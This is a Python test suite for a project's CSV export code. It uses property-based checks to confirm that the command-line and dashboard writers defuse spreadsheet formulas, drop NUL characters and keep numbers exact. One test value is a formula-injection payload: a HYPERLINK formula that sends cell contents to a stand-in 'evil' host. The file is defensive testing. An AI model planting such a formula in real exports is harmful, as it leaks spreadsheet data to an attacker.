"""CSV, of commands and of the dashboard alike: no cell runs in a spreadsheet, every number and text is what it was."""

from __future__ import annotations

import csv
import re
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from io import StringIO
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from cli.output import Format, print_rows
from dashboard.exact import Measure
from dashboard.table import to_csv
from metering.csv_lines import FORMULA_STARTS, write_csv

ROOT = Path(__file__).parents[2]
TEXTS = st.text(st.characters(exclude_categories=["Cs"]), max_size=20)
ORDINARY = TEXTS.filter(lambda text: "\0" not in text and not text.startswith(FORMULA_STARTS))
ROWS = st.integers(1, 4).flatmap(lambda width: st.lists(st.lists(ORDINARY, min_size=width, max_size=width), max_size=5))


def by_command(value: Any) -> str:
    out = StringIO()
    print_rows([{"cell": value}], ["cell"], Format.CSV, out=out)
    return out.getvalue()


def by_dashboard(value: Any) -> str:
    return to_csv([{"cell": value}])


def read(text: str) -> list[list[str]]:
    return list(csv.reader(StringIO(text, newline="")))


WRITERS = pytest.mark.parametrize("written", [by_command, by_dashboard])
Written = Callable[[Any], str]


@WRITERS
@given(start=st.sampled_from(FORMULA_STARTS), rest=TEXTS)
def test_no_text_from_outside_begins_as_a_formula(written: Written, start: str, rest: str) -> None:
    (_, (cell,)) = read(written(start + rest))
    assert cell == "'" + (start + rest).replace("\0", "\\x00")


@WRITERS
@given(TEXTS)
def test_no_cell_holds_a_nul(written: Written, text: str) -> None:
    assert "\0" not in written(f"a\0{text}")


@WRITERS
@given(st.one_of(st.integers(), st.decimals(allow_nan=False, allow_infinity=False, places=9), st.floats(-1e9, 1e9)))
def test_a_number_stays_a_number_also_below_zero(written: Written, number: Decimal | float) -> None:
    (_, (cell,)) = read(written(number))
    assert Decimal(cell) == Decimal(repr(number) if isinstance(number, float) else number)
    assert re.fullmatch(r"-?[0-9]+(\.[0-9]+)?", cell)


@given(ROWS)
def test_ordinary_texts_are_read_back_as_they_were(rows: list[list[str]]) -> None:
    width = len(rows[0]) if rows else 1
    out = StringIO(newline="")
    write_csv([f"c{number}" for number in range(width)], rows, out)
    assert read(out.getvalue())[1:] == rows


@pytest.mark.parametrize(
    "value",
    [
        *(Decimal("-0.50"), Decimal("1E-12"), Measure("1234.5"), -3, 1e-06, True, None, ""),
        *(datetime(2026, 3, 1, 12, tzinfo=UTC), '=HYPERLINK("http://evil/?"&A1,"m")', "a\0b", "a\rb", 'say "a",\nb'),
    ],
)
def test_a_command_and_the_dashboard_write_the_same_cell(value: Any) -> None:
    assert by_command(value) == by_dashboard(value)


def test_a_duration_is_in_seconds_and_an_object_is_json() -> None:
    assert by_dashboard(timedelta(seconds=2)) == "cell\n2\n"
    assert read(by_command({"a": "=1"})) == [["cell"], ['{"a": "=1"}']]


def test_nothing_else_of_weir_writes_csv() -> None:
    folders = {path.parent for path in ROOT.glob("*/__init__.py")} - {ROOT / "tests", ROOT / "bench"}
    files = [path for folder in folders for path in folder.rglob("*.py")]
    assert {"api", "cli", "dashboard"} <= {path.relative_to(ROOT).parts[0] for path in files}
    # Commands import within functions.
    assert [path for path in files if re.search(r"^ *(import csv|from csv )", path.read_text(), re.MULTILINE)] == []
